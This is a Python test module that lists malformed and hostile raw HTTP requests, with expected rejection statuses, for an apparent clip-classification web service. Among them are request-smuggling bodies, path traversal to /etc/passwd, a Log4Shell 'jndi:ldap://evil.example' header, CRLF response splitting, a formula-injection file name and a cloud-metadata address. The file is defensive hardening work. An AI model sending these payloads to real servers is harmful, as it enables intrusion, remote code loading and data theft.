"""Requests that are made to do harm, byte by byte, and what has to become of them.

Whoever sends one then waits for the end of the connection.
"""

from collections.abc import Iterator
from dataclasses import dataclass

BOUNDARY = b"x"
CLIP = b"\0\0\0\x18ftypisom\0\0\2\0isommp42" + bytes(100)
_FORM = b"Content-Type: multipart/form-data; boundary=x\r\n"
_CHUNKED = b"Transfer-Encoding: chunked\r\n"


@dataclass(frozen=True)
class Attack:
    """`expected` are statuses of the first answer; 0: the connection ends without one."""

    name: str
    data: bytes
    expected: frozenset[int]
    kind: str = ""  # of the problem, where it matters


def post(
    body: bytes, *headers: bytes, path: bytes = b"/classify", length: int | None = None
) -> bytes:
    """A request whose Content-Length is true unless another is given; below zero: none."""
    stated = len(body) if length is None else length
    lines = [
        b"POST " + path + b" HTTP/1.1\r\nHost: clips.example\r\nConnection: close\r\n",
        *headers,
    ]
    if stated >= 0:
        lines.append(b"Content-Length: %d\r\n" % stated)
    return b"".join([*lines, b"\r\n", body])


def part(name: bytes, content: bytes, *, filename: bytes | None = None) -> bytes:
    told = b"" if filename is None else b'; filename="' + filename + b'"'
    head = b'--x\r\nContent-Disposition: form-data; name="' + name + b'"' + told
    return head + b"\r\n\r\n" + content + b"\r\n"


def form(*parts: bytes) -> bytes:
    return b"".join(parts) + b"--x--\r\n"


def chunks(*contents: bytes) -> bytes:
    return b"".join(b"%x\r\n%s\r\n" % (len(each), each) for each in contents) + b"0\r\n\r\n"


FILE = part(b"clip", CLIP, filename=b"a.mp4")
GOOD = form(FILE)
_NAMES = {
    "that leaves the folder": b"../../../../etc/cron.d/x",
    "that leaves the folder, encoded": b"%2e%2e%2f%2e%2e%2fx",
    "of Windows, absolute": b"C:\\\\Windows\\\\System32\\\\x.mp4",
    "of Windows, on a share": b"\\\\\\\\evil.example\\\\share\\\\x.mp4",
    "with a zero byte in it": b"a.mp4\0.html",
    "that is written from right to left": "a\u202e4pm.exe".encode(),
    "with colours for a terminal": b"\x1b[31mred\x1b[0m.mp4",
    "that is no UTF-8": b"\xff\xfe\xfd.mp4",
    "of a device": b"/dev/stdin",
    "of a formula": b"=cmd|' /C calc'!A0.mp4",
    "that is empty": b"",
    "of a dot": b".",
}


def all_attacks() -> list[Attack]:
    """Every one of them."""
    return [*_lengths(), *_heads(), *_forms(), *_names(), *_paths()]


def _one(name: str, data: bytes, *expected: int, kind: str = "") -> Attack:
    return Attack(name, data, frozenset(expected), kind)


def _lengths() -> Iterator[Attack]:
    """Where a body ends, said falsely or twice, as those do who smuggle requests past a proxy."""
    yield _one("a length that is too small", post(GOOD, _FORM, length=len(GOOD) - 40), 400)
    yield _one("a length that is too large, then silence", post(GOOD, _FORM, length=9999), 0, 408)
    yield _one("a length below zero", post(b"", _FORM, b"Content-Length: -1\r\n", length=-1), 400)
    yield _one("a length in words", post(b"", _FORM, b"Content-Length: ten\r\n", length=-1), 400)
    yield _one(
        "a length of 40 digits",
        post(b"", _FORM, b"Content-Length: " + b"9" * 40 + b"\r\n", length=-1),
        400,
        413,
    )
    yield _one("two lengths that differ", post(GOOD, _FORM, b"Content-Length: 5\r\n"), 400)
    yield _one("a length and chunks", post(chunks(GOOD), _FORM, _CHUNKED), 400)
    for odd in (b"xchunked", b"chunked, identity", b"\x0bchunked", b"identity, chunked, gzip"):
        coding = b"Transfer-Encoding: " + odd + b"\r\n"
        yield _one(
            f"a transfer coding {odd!r}",
            post(chunks(GOOD), _FORM, coding, length=-1),
            400,
            411,
            422,
        )
    folded = b"Transfer-Encoding:\r\n chunked\r\n"
    yield _one(
        "a transfer coding on two lines",
        post(chunks(GOOD), _FORM, folded, length=-1),
        400,
        411,
        200,
    )
    huge = b"F" * 17 + b"\r\n"
    yield _one("a chunk of 2^68 bytes", post(huge, _FORM, _CHUNKED, length=-1), 400)
    yield _one("a chunk below zero", post(b"-1\r\n", _FORM, _CHUNKED, length=-1), 400)
    long = b"5;" + b"a" * 200_000 + b"\r\nhello\r\n"
    yield _one("a chunk with a comment of 200 kB", post(long, _FORM, _CHUNKED, length=-1), 431, 400)
    trailers = b"0\r\n" + b"A: b\r\n" * 30_000 + b"\r\n"
    yield _one(
        "30,000 headers behind the body", post(trailers, _FORM, _CHUNKED, length=-1), 400, 431
    )
    large = chunks(*[FILE[:-2], *[bytes(1 << 16)] * 300])
    yield _one(
        "chunks without end", post(large, _FORM, _CHUNKED, length=-1), 413, kind="body-too-large"
    )
    second = post(GOOD, _FORM, length=0) + b"GET /metrics HTTP/1.1\r\nHost: x\r\n\r\n"
    yield _one("a request in the body of another", second, 400)


def _heads() -> Iterator[Attack]:
    """What comes before the body."""
    get = b"GET /health/live HTTP/1.1\r\nHost: x\r\nConnection: close\r\n"
    yield _one("a header of 1 MB", get + b"X: " + b"a" * 1_000_000 + b"\r\n\r\n", 431)
    yield _one("50,000 headers", get + b"X: a\r\n" * 50_000 + b"\r\n", 431)
    yield _one("an address of 1 MB", b"GET /" + b"a" * 1_000_000 + b" HTTP/1.1\r\n\r\n", 431)
    yield _one("a zero byte in a header", get + b"X: a\0b\r\n\r\n", 400)
    yield _one("a header without a name", get + b": a\r\n\r\n", 400)
    yield _one("a header with a blank before its colon", get + b"X : a\r\n\r\n", 400)
    yield _one("a line that goes on", get + b"X: a\r\n b\r\n\r\n", 200, 400)
    yield _one("a method that there is not", b"HACK / HTTP/1.1\r\nHost: x\r\n\r\n", 400, 405)
    yield _one("the first line of HTTP/2", b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n", 400)
    yield _one("the greeting of TLS", b"\x16\x03\x01\x02\0\x01\0\x01\xfc\x03\x03" + bytes(200), 400)
    yield _one("HTTP/0.9", b"GET /\r\n\r\n", 200, 400)
    yield _one("another version", b"GET / HTTP/3.14\r\nHost: x\r\n\r\n", 400)
    log = get + b"X-Request-ID: ${jndi:ldap://evil.example/a}\r\n"
    yield _one("a request id that is a program", log + b"\r\n", 200)
    line = get + b"X-Request-ID: a%0d%0aSet-Cookie:x=1\r\n\r\n"
    yield _one("a request id that splits the answer", line, 200)
    upgrade = get.replace(b"close", b"Upgrade") + b"Upgrade: websocket\r\nConnection: close\r\n\r\n"
    yield _one("an upgrade to a web socket", upgrade, 200, 400, 426)


def _forms() -> Iterator[Attack]:
    """Bodies that are no forms, or no good ones."""
    for media in (
        b"application/json",
        b"text/plain; boundary=x",
        b"multipart/mixed; boundary=x",
        b"video/mp4",
        b"",
        b"multipart/form-data",
    ):
        stated = b"Content-Type: " + media + b"\r\n"
        yield _one(f"a form said to be {media.decode()!r}", post(GOOD, stated), 415)
    yield _one("a form of no type", post(GOOD), 415)
    yield _one(
        "JSON where a form belongs",
        post(b'{"clip": "a"}', b"Content-Type: application/json\r\n"),
        415,
    )
    yield _one("JSON said to be a form", post(b'{"clip": "a"}', _FORM), 400)
    yield _one("deep JSON", post(b"[" * 100_000, b"Content-Type: application/json\r\n"), 415)
    long = b"Content-Type: multipart/form-data; boundary=" + b"x" * 10_000 + b"\r\n"
    yield _one("a boundary of 10 kB", post(GOOD, long), 400, 415)
    odd = b'Content-Type: multipart/form-data; boundary="x\\"; boundary=y"\r\n'
    yield _one("a boundary in quotes that do not end", post(GOOD, odd), 400, 415)
    two = b"Content-Type: application/json\r\n" + _FORM
    yield _one("two types", post(GOOD, two), 200, 400, 415)
    yield _one(
        "10,000 parts", post(form(*[part(b"clip", CLIP, filename=b"a")] * 10_000), _FORM), 422
    )
    yield _one("10,000 fields", post(form(*[part(b"model", b"tiny")] * 10_000), _FORM), 422)
    many = form(*(part(b"f%d" % number, b"") for number in range(10_000)))
    yield _one(
        "10,000 fields with names of their own", post(many, _FORM), 422, kind="unknown-field"
    )
    yield _one("a field of 8 MB", post(form(FILE, part(b"model", b"a" * (8 << 20))), _FORM), 422)
    name = form(part(b"n" * 60_000, b""))
    yield _one("a field whose name has 60 kB", post(name, _FORM), 400, 422)
    heads = b"--x\r\n" + b"A: b\r\n" * 20_000 + b"\r\n" + CLIP + b"\r\n--x--\r\n"
    yield _one("a part of 20,000 headers", post(heads, _FORM), 400)
    yield _one(
        "a form in a form",
        post(form(part(b"clip", GOOD, filename=b"a")), _FORM),
        200,
        400,
        415,
        422,
    )
    yield _one("a form without an end", post(FILE, _FORM), 400)
    yield _one("line feeds alone", post(GOOD.replace(b"\r\n", b"\n"), _FORM), 400)
    yield _one("nothing but boundaries", post(b"--x\r\n" * 50_000, _FORM), 400)
    yield _one("a preamble of 1 MB", post(b"a" * 1_000_000 + GOOD, _FORM), 400)
    yield _one("an epilogue of 1 MB", post(GOOD + b"a" * 1_000_000, _FORM), 200, 400)
    yield _one(
        "two names of one field",
        post(GOOD.replace(b'name="clip"', b'name="clip"; name="tracks"'), _FORM),
        200,
        400,
        415,
        422,
    )


def _names() -> Iterator[Attack]:
    long = form(part(b"clip", CLIP, filename=b"a" * 10_000))
    yield _one("a file name of 10 kB", post(long, _FORM), 400)
    for what, name in _NAMES.items():
        yield _one(
            f"a file name {what}", post(form(part(b"clip", CLIP, filename=name)), _FORM), 200
        )


def _paths() -> Iterator[Attack]:
    for path in (
        *(b"/web/../../../../etc/passwd", b"/web/%2e%2e/%2e%2e/etc/passwd", b"/web//etc/passwd"),
        *(b"/web/..%5c..%5cetc", b"/docs/assets/..%2f..%2f..%2fetc/passwd", b"/jobs/..%2fmodels"),
        *(b"/jobs/%00", b"/jobs/" + b"a" * 8000, b"/models/..%2f..%2fcatalog.toml", b"/%ff%fe"),
    ):
        line = b"GET " + path + b" HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n"
        yield _one(f"GET {path[:40].decode()}", line, 404)
    absolute = b"GET http://169.254.169.254/latest HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n"
    yield _one("the address of another host", absolute, 404)
